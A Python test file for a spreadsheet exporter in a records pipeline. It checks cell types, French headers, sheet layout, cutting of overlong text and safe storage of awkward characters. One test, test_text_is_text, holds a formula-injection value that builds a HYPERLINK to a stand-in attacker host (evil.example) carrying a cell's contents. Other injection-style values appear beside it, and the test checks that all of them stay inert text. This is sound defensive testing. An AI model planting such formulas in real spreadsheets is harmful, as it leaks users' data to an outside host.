"""XLSX: typed cells, text that never runs, and nothing changed or lost on the way through a spreadsheet."""

import re
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from pipeline.export import Format, Options, export, xlsx
from pipeline.records import Count, DocumentRecords, Record
from pipeline.rows import DocumentRows

Sources = Callable[..., list[DocumentRows]]
# As a spreadsheet reads what openpyxl gives as it stands in the file.
ESCAPE = re.compile("_x([0-9A-F]{4})_")


def book(documents: list[DocumentRows], folder: Path, options: Options = Options()) -> Any:  # noqa: B008
    export(documents, Format.XLSX, folder, options)
    return openpyxl.load_workbook(folder / "records.xlsx")


def rows(sheet: Any) -> list[dict[str, Any]]:
    header, *others = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in others]


def shown(cell: str) -> str:
    return ESCAPE.sub(lambda match: chr(int(match[1], 16)), cell)


def test_what_a_person_sees(source: Sources, tmp_path: Path) -> None:
    found = book(source(), tmp_path / "out")
    assert found.sheetnames == ["Records", "Counts", "About"]
    record = rows(found["Records"])[1]
    assert (record["Operation"], record["Countries"], record["Year"]) == ("Libertad", "GY LC", 2018)
    assert (record["First day"], record["Published"]) == (datetime(2018, 4, 3), datetime(2018, 4, 30))
    counts = rows(found["Counts"])
    assert [count["Figure"] for count in counts] == [
        "1 000 000 EUR",
        "94 (presumed, in GY)",
        "85",
        "> 500",
        "200–300",
        "≤ 0.25 kg",
    ]
    assert [count["Value"] for count in counts] == [1_000_000, 94, 85, 500, None, 0.25]
    assert [count["Operation"] for count in counts[1:]] == ["Libertad"] * 4 + [None]
    assert [count["Presumed"] for count in counts[:2]] == [False, True]
    assert counts[-1]["Not summed"] == "total"


def test_sheets_are_ready_to_work_with(source: Sources, tmp_path: Path) -> None:
    found = book(source(), tmp_path / "out")
    for name, last in (("Records", "P4"), ("Counts", "X7")):
        sheet = found[name]
        assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("B2", f"A1:{last}")
        assert sheet["A1"].font.bold
        assert sheet.column_dimensions["A"].width > 20
    assert found["Records"]["F3"].number_format == "yyyy-mm-dd"


def test_french_headers(source: Sources, tmp_path: Path) -> None:
    found = book(source(), tmp_path / "out", Options("fr"))
    assert found.sheetnames == ["Enregistrements", "Chiffres", "À propos"]
    assert rows(found["Enregistrements"])[1]["Premier jour"] == datetime(2018, 4, 3)
    about = [row for row in found["À propos"].iter_rows(values_only=True) if row[0]]
    assert "se lit" not in about[0][3]
    assert "« not_summed » est vide" in about[1][3]
    assert ("Chiffres", "Chiffre", "count_id") in [row[:3] for row in about]
    # Every column of both sheets is explained.
    assert len(about) - 3 == found["Enregistrements"].max_column + found["Chiffres"].max_column


def test_text_is_text(source: Sources, tmp_path: Path) -> None:
    found = book(source(), tmp_path / "out")
    cells = [cell for sheet in found for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n", "d", "b"}
    assert not any(cell.hyperlink for cell in cells)
    record = found["Records"][2]
    assert record[3].value == '=HYPERLINK("http://evil.example/?"&A1,"Épervier")'
    # It stays text when somebody edits the cell.
    assert record[3].quotePrefix
    assert [shown(record[place].value) for place in (12, 13, 14)] == ["\tcorpus/=1+1.txt", "-1+1", "#N/A"]
    count = rows(found["Counts"])[0]
    assert shown(count["Words"]) == 'one, "two"\r\n-three;=1+1\x07 _x0041_ #N/A'
    with zipfile.ZipFile(tmp_path / "out/records.xlsx") as archive:
        assert not any(b"<f>" in archive.read(name) or b"<hyperlink" in archive.read(name) for name in archive.namelist())


@pytest.mark.parametrize(
    "text", ["\x00", "\x1f\x0b", "_x0000_", "_x005F_", "__x0041__", "\ufffe", "tab\tand\nline", " spaces ", "é🙂"]
)
def test_what_xml_cannot_hold_comes_back(source: Sources, tmp_path: Path, text: str) -> None:
    document = DocumentRecords(doc_id="en/x", language="en", records=[Record(operation=f"a{text}b")])
    (row,) = rows(book(source(document), tmp_path / "out")["Records"])
    assert shown(row["Operation"]) == f"a{text}b"


@pytest.mark.parametrize("letter", ["x", "\x01", "🙂"])
def test_too_long_text_is_cut_and_says_so(source: Sources, tmp_path: Path, letter: str) -> None:
    documents = [
        DocumentRecords(doc_id=f"en/{size}", language="en", records=[Record(operation=letter * size)]) for size in (3000, 40_000)
    ]
    found = book(source(*documents), tmp_path / "out")
    whole, cut = (row["Operation"] for row in rows(found["Records"]))
    assert shown(whole) == letter * 3000
    assert len(cut.encode("utf-16-le")) // 2 <= 32_767
    assert cut.endswith(" … [cut]")
    assert set(shown(cut.removesuffix(" … [cut]"))) == {letter}
    assert any("1 cells were longer" in str(row[3]) for row in found["About"].iter_rows(values_only=True))


def test_full_sheet_goes_on_in_another_one(source: Sources, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "MAX_ROWS", 3)
    counts = [Count(category="arrests", value=value) for value in range(1, 6)]
    found = book(source(DocumentRecords(doc_id="en/x", language="en", records=[Record(counts=counts)])), tmp_path / "out")
    assert found.sheetnames == ["Records", "Counts", "Counts 2", "Counts 3", "About"]
    assert [row["Value"] for name in found.sheetnames[1:4] for row in rows(found[name])] == [1, 2, 3, 4, 5]
    assert found["Counts 2"].auto_filter.ref == "A1:X3"
    assert found["Counts 3"].auto_filter.ref == "A1:X2"


def test_days_before_the_calendar_of_excel_stay_text(source: Sources, tmp_path: Path) -> None:
    records = [Record(dates=dates) for dates in ("1850", "0000-02", "1900-02-28/1900-03-01")]
    found = rows(book(source(DocumentRecords(doc_id="en/x", language="en", records=records)), tmp_path / "out")["Records"])
    assert [(row["First day"], row["Last day"]) for row in found] == [
        ("1850-01-01", "1850-12-31"),
        ("0000-02-01", "0000-02-29"),
        ("1900-02-28", datetime(1900, 3, 1)),
    ]
